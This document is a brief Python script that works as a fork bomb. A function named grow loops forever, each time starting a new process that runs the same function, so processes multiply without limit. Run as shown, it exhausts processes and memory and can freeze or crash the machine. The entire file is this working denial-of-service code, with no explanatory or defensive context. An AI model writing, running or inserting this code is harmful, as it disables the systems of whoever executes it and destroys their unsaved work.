import multiprocessing


def grow():
    while True:
        multiprocessing.Process(target=grow).start()


if __name__ == "__main__":
    grow()
